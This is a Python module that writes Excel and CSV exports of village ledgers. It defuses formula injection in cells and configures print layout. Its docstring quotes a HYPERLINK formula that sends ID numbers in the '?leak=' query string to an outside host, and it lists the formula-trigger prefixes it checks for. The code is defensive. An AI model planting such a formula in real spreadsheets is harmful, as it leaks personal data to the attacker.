"""Writing .xlsx/.csv files that clerks open in Excel or WPS and print.

Two duties every export shares:

* **Text stays text.** A list cell ``=HYPERLINK("http://…?leak="&D3,"点击")`` read from a
  village's sheet is a string to us, but openpyxl writes any string starting with ``=`` as
  a live formula — in an export whose column D is the full ID it would send IDs to
  whoever made the cell. Every text cell is therefore written as text; in CSV (which
  Excel evaluates on opening) text starting with ``= + - @``, tab or CR gets a leading
  apostrophe, the usual neutralisation. Our exports write no formulas of their own.
* **Pages print like WPS would.** Orientation, fit to the page width, the header rows
  repeated on every page, a title in the page header and page numbers in the footer, so
  that a 台账 prints as readable pages, not 32 pages of three-column strips.

Writers call :func:`save_workbook` (or :func:`safe_row` for write-only workbooks and
:func:`csv_text` for CSV cells) instead of ``wb.save``.
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value: object) -> bool:
    """True for text a spreadsheet program might evaluate (CSV) or openpyxl store as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_text(value: object) -> object:
    """A CSV cell: text that could be evaluated gets a leading apostrophe."""
    if looks_like_formula(value):
        return "'" + str(value)
    return value


def safe_row(ws: Any, values: Iterable[Any]) -> list[Any]:
    """Values for ``ws.append`` on a write-only sheet, formula-looking text made text cells."""
    out: list[Any] = []
    for v in values:
        if isinstance(v, str) and v.startswith("="):
            from openpyxl.cell import WriteOnlyCell

            cell = WriteOnlyCell(ws, value=v)
            cell.data_type = "s"
            out.append(cell)
        else:
            out.append(v)
    return out


def defuse(wb: Any) -> int:
    """Turn every formula cell of a (not write-only) workbook into text; returns how many.

    Our writers never write formulas, so each one found came from input text.
    """
    n = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith("=")):
                    c.data_type = "s"
                    n += 1
    return n


def print_setup(ws: Any, *, title: str | None = None, landscape: bool = False,
                header_rows: tuple[int, int] | None = None, paper: str = "A4",
                widths: Sequence[float] | None = None) -> None:
    """Page set-up for printing: fit all columns to the page width, as many pages tall as
    needed, header rows repeated, the title in the page header, 第 N 页 共 M 页 below."""
    if widths:
        from openpyxl.utils import get_column_letter

        for i, w in enumerate(widths, start=1):
            ws.column_dimensions[get_column_letter(i)].width = w
    ps = ws.page_setup
    ps.orientation = "landscape" if landscape else "portrait"
    ps.paperSize = "8" if paper == "A3" else "9"  # ECMA-376 paper codes
    ps.fitToWidth = 1
    ps.fitToHeight = 0
    ws.sheet_properties.pageSetUpPr.fitToPage = True
    ws.print_options.horizontalCentered = True
    ws.page_margins.left = ws.page_margins.right = 0.5
    ws.page_margins.top = ws.page_margins.bottom = 0.7
    if header_rows:
        ws.print_title_rows = f"{header_rows[0]}:{header_rows[1]}"
    if title:
        ws.oddHeader.center.text = title.replace("&", "&&")
        ws.oddHeader.center.size = 12
    ws.oddFooter.center.text = "第 &P 页,共 &N 页"


def display_width(value: object) -> int:
    """Characters as a spreadsheet column counts them: a Han character is two."""
    text = value if isinstance(value, str) else ("" if value is None else str(value))
    return sum(2 if ord(ch) > 0x2E80 else 1 for ch in text)


def fit_widths(ws: Any, *, first_row: int = 1, minimum: float = 6, maximum: float = 40) -> None:
    """Column widths from the longest value (long text wraps at ``maximum``)."""
    from openpyxl.utils import get_column_letter

    widest: dict[int, int] = {}
    merged = {(r.min_row, r.min_col) for r in ws.merged_cells.ranges}
    for row in ws.iter_rows(min_row=first_row):
        for c in row:
            if c.value is None or (c.row, c.column) in merged:
                continue
            widest[c.column] = max(widest.get(c.column, 0), display_width(c.value))
    for col, w in widest.items():
        ws.column_dimensions[get_column_letter(col)].width = max(minimum, min(maximum, w + 2))


def save_workbook(wb: Any, out: str | Path) -> Path:
    """Defuse formulas and write ``out`` atomically (owner-only where the OS has modes)."""
    from gkdesk.fileio import write_with

    if not getattr(wb, "write_only", False):
        defuse(wb)
    return write_with(out, wb.save)
